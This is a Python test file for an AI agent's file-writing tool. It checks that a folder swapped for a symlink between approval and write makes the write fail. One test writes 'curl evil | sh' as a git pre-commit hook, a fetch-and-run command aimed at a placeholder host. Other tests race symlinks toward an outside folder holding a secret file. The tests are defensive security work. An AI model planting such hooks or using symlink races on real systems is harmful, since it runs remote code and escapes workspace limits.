"""Finding 8.4: what was approved is what gets written (time of check vs time of use).

A call is planned once (``prepare``): its path is resolved there, and the write opens
that folder one component at a time without following symlinks, then creates and
renames the file relative to it. A folder that became a symlink in between makes the
write fail; it never lands where the symlink points.
"""

from __future__ import annotations

import os
import threading
import time

from jupyter_agent.loop.permission_result import PermissionAllow
from jupyter_agent.tools.write import Write

from .conftest import call_tool, make_ctx, text_of


async def test_a_folder_swapped_for_a_symlink_while_the_card_is_open(workspace):
    hooks = workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (workspace / "sub").mkdir()
    ctx = make_ctx(workspace)  # default: the Write asks

    def approve_after_the_swap(tool_name, input, ask):
        assert ask.diff and "+curl evil | sh" in ask.diff  # the card shows the planned change
        os.rename(workspace / "sub", workspace / "parked")
        (workspace / "sub").symlink_to(hooks)
        return PermissionAllow()

    result = await call_tool(ctx, "Write", {"file_path": "sub/pre-commit", "content": "curl evil | sh\n"},
                             can_use_tool=approve_after_the_swap)
    assert result.get("is_error") and "changed on disk" in text_of(result)
    assert not (hooks / "pre-commit").exists() and not (workspace / "parked" / "pre-commit").exists()


async def test_a_path_that_stops_resolving_after_validation_is_the_calls_error(workspace, monkeypatch):
    """The race of the test below, made certain: validate_input resolved the path, and by the
    time the call is planned it no longer resolves. The plan carries the problem, and the call
    ends with an error result before anyone is asked (it once reached the ask with no path
    and raised IndexError out of the loop's pipeline)."""

    async def passes(self, input, context):
        return None

    monkeypatch.setattr(Write, "validate_input", passes)
    result = await call_tool(make_ctx(workspace, "acceptEdits"), "Write", {"file_path": "", "content": "x"})
    assert result["is_error"] and "file_path is empty" in text_of(result)


async def test_a_folder_flipping_to_an_outside_symlink_never_gets_a_write_outside(workspace, outside):
    sub, parked = workspace / "sub", workspace / "parked"
    sub.mkdir()
    ctx = make_ctx(workspace, "acceptEdits")
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            try:
                os.rename(sub, parked)
                os.symlink(outside, sub)
                time.sleep(0.0005)
                os.unlink(sub)
                os.rename(parked, sub)
                time.sleep(0.0005)
            except OSError:
                try:  # a write made the folder again meanwhile: put things back and go on
                    if os.path.islink(sub):
                        os.unlink(sub)
                    if parked.exists() and not sub.exists():
                        os.rename(parked, sub)
                except OSError:
                    pass

    flipper = threading.Thread(target=flip)
    flipper.start()
    try:
        results = [await call_tool(ctx, "Write", {"file_path": f"sub/f{i}.txt", "content": "x"}) for i in range(150)]
    finally:
        stop.set()
        flipper.join()
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    written = sum(not r.get("is_error") for r in results)
    assert written, "some writes found the folder in place"
